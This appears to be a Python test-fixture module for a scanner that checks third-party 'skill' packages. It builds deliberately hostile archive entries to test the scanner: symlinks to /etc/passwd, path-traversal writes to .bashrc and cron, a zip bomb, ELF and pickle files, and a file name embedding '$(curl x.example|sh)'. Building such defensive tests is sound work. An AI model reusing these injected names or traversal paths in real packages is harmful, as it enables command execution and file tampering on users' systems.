"""Reads the corpora of foreign skills: many in one file, odd characters written as `\\u{200b}`."""

import io
import re
import zipfile
from pathlib import Path

from hermes.skills.scanner.finding import SkillFile

HERE = Path(__file__).parent / "corpora" / "skills"
_CODE = re.compile(r"\\u\{([0-9a-fA-F]+)\}")


def read_corpus(file: str) -> dict[str, tuple[str, list[SkillFile]]]:
    """By name: the class of the skill, and its files."""
    found: dict[str, tuple[str, list[SkillFile]]] = {}
    text = _CODE.sub(lambda code: chr(int(code[1], 16)), (HERE / file).read_text(encoding="utf-8"))
    for block in re.split(r"^@@ ", text, flags=re.MULTILINE)[1:]:
        head, _, rest = block.partition("\n")
        name, kind, description = (part.strip() for part in head.split("|", 2))
        body, *files = re.split(r"^@ ", rest, flags=re.MULTILINE)
        title = name.replace("-", " ").capitalize()
        skill = f"---\nname: {name}\ndescription: {description}\n---\n# {title}\n\n{body}"
        entries = [SkillFile(path="SKILL.md", data=skill.encode("utf-8", "surrogatepass"))]
        for each in files:
            line, _, content = each.partition("\n")
            path, _, mode = line.partition(" ")
            entries.append(
                SkillFile(path=path, data=content.encode(), executable=mode.strip() == "x")
            )
        found[name] = (kind, entries)
    return found


def made() -> dict[str, tuple[str, list[SkillFile]]]:
    """Hostile ones that no text file can hold: links, bombs, names, programs."""
    skill = SkillFile(path="SKILL.md", data=b"---\nname: x\ndescription: y\n---\n# X\n\nUse it.\n")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.csv", b"0" * (80 << 20))
    cases = {
        "link-to-passwd": SkillFile(path="references/a.md", data=b"", link="/etc/passwd"),
        "link-up": SkillFile(path="assets/up", data=b"", link="../../.."),
        "link-to-itself": SkillFile(path="assets/loop", data=b"", link="loop"),
        "climbs-out": SkillFile(path="../../.bashrc", data=b"id"),
        "absolute": SkillFile(path="/etc/cron.d/x", data=b"id"),
        "backslash": SkillFile(path="..\\..\\x.bat", data=b"id"),
        "zip-bomb": SkillFile(path="assets/data.zip", data=bomb.getvalue()),
        "elf": SkillFile(
            path="scripts/tool", data=b"\x7fELF\x02\x01" + b"\0" * 64, executable=True
        ),
        "compiled": SkillFile(path="scripts/tool.pyc", data=b"\xa7\r\r\n" + b"\0" * 16),
        "huge-text": SkillFile(path="references/all.md", data=b"word " * 400_000),
        "huge-file": SkillFile(path="assets/blob.bin", data=b"\1" * (9 << 20)),
        "name-runs": SkillFile(path="assets/$(curl x.example|sh).txt", data=b""),
        "name-newline": SkillFile(path="assets/a\nb.txt", data=b""),
        "nested-skill": SkillFile(path="assets/inner/SKILL.md", data=skill.data),
        "deep": SkillFile(path="/".join(["a"] * 40) + "/b.md", data=b"x"),
        "same-name-twice": SkillFile(path="skill.MD", data=b"other"),
        "wheel": SkillFile(path="assets/dep.whl", data=b"PK\x03\x04"),
        "pickle": SkillFile(path="assets/m.pkl", data=b"\x80\x04\x95"),
    }
    found = {name: ("archive", [skill, entry]) for name, entry in cases.items()}
    many = [SkillFile(path=f"assets/{number}.txt", data=b"") for number in range(600)]
    return {**found, "too-many": ("archive", [skill, *many])}
